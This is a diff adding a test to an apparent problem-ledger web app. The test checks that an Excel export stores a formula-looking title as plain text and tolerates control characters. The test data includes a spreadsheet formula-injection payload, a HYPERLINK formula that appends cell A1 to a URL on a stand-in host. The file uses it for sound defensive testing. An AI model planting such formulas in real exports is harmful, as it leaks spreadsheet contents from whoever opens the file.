@@ -202,3 +202,30 @@ def test_report_a_problem_page(as_user, staff, grid):
     )
     problem = Problem.objects.get()
     assert response["Location"] == f"/problems/{problem.pk}/" and problem.region_code == "370828107000"
+
+
+def test_the_ledger_export_writes_a_formula_title_as_text_and_survives_control_characters(
+    as_user, inspector, campaign, tmp_path
+):
+    formula = '=HYPERLINK("http://x/?"&A1,"点击查看详情")'
+    for title in (formula, "控制字符"):
+        services.open_problem(
+            inspector,
+            use="projects",
+            category="funds",
+            title=title,
+            region_code="370828107200",
+            found_on=date(2025, 5, 6),
+            campaign=campaign,
+        )
+    # A row from before control characters were refused on input.
+    Problem.objects.filter(title="控制字符").update(title="控制\x01字符")
+
+    response = as_user(inspector).get("/problems/export.xlsx")
+
+    assert response.status_code == 200
+    path = tmp_path / "ledger.xlsx"
+    path.write_bytes(b"".join(response.streaming_content))
+    titles = {row[4].value: row[4] for row in load_workbook(path).active.iter_rows(min_row=2)}
+    assert set(titles) == {formula, "控制字符"}
+    assert titles[formula].data_type == "s" and titles[formula].quotePrefix
